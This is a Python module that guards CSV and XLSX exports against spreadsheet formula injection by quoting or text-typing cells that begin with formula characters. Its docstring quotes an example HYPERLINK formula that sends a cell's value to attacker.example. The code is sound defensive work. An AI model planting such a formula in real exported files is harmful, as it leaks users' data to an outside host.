"""Cells of the files people open in a spreadsheet program (CSV, XLSX).

Text typed by users reaches these files: an advisor's organisation, a topic's
or municipality's name. A spreadsheet runs text starting with =, +, -, @, a tab
or a carriage return as a formula, so an organisation named
`=HYPERLINK("http://attacker.example/?leak="&A1,"Klicka")` would send the
coordinator's figures away (CSV injection, OWASP). Every CSV and XLSX writer
writes its cells through here, so such text arrives as text:

- CSV: the text gets a leading single quote (OWASP's advice) and every text
  cell is in double quotes, so a `;` inside it cannot start a new cell in a
  spreadsheet set to split on semicolons (Swedish Excel does).
- XLSX: the cell is stored as a string, never a formula, and marked as typed
  text (quotePrefix), so editing it in Excel keeps it text.

Numbers stay numbers, negative ones too; None is an empty cell.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: Any) -> bool:
    """Text that a spreadsheet program would run rather than show."""
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


# --- CSV ------------------------------------------------------------------------------------


def csv_cell(value: Any) -> str | int | float:
    """One CSV cell: numbers as they are, None as empty, text defused."""
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value
    text = str(value)
    return f"'{text}" if looks_like_formula(text) else text


class CsvWriter:
    """csv.writer for files opened in a spreadsheet: rows of any values, each
    cell through `csv_cell`, text quoted, numbers not, CRLF line ends.

    By default comma-separated with a decimal point, for programs. With
    `delimiter=";"` and `decimal_comma=True` it is what Excel set to Swedish
    opens by a double click: Excel there splits on semicolons and reads 0,25
    as a number (0.25 would become text, or a date)."""

    def __init__(self, out: TextIO, *, delimiter: str = ",", decimal_comma: bool = False) -> None:
        self._writer = csv.writer(
            out, delimiter=delimiter, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC
        )
        self._decimal_comma = decimal_comma

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([self._cell(value) for value in row])

    def _cell(self, value: Any) -> str | int | float:
        cell = csv_cell(value)
        if self._decimal_comma and isinstance(cell, float):
            # Written as it is, unquoted: QUOTE_NONNUMERIC would quote the text.
            return _Unquoted(repr(cell).replace(".", ","))
        return cell


class _Unquoted(float):
    """A number whose text is given: QUOTE_NONNUMERIC leaves floats unquoted
    and writes them by str(), so "0,25" goes out as it is."""

    def __new__(cls, text: str) -> _Unquoted:
        number = super().__new__(cls, float(text.replace(",", ".")))
        number._text = text
        return number

    _text: str

    def __str__(self) -> str:
        return self._text

    __repr__ = __str__


# --- XLSX -----------------------------------------------------------------------------------


def xlsx_cell(sheet: Worksheet, value: Any) -> Any:
    """A value for `sheet.append`: formula-like text as a text cell, anything
    else as it is (openpyxl stores a str starting with "=" as a formula)."""
    if not looks_like_formula(value):
        return value
    cell = Cell(sheet)
    cell.value = value
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def xlsx_append(sheet: Worksheet, row: Iterable[Any]) -> None:
    """`sheet.append(row)` with every cell through `xlsx_cell`."""
    sheet.append([xlsx_cell(sheet, value) for value in row])
